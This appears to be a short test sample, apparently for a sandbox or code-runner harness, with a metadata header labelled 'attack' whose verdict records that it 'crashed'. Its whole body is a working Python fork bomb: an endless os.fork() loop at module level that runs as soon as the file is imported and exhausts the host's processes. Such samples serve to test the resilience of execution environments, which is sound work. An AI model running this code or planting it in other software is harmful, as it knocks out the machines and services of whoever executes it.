# /// attack
# story = "Forks without end while it is imported."
# verdict = "crashed"
# ///
import os

while True:
    os.fork()
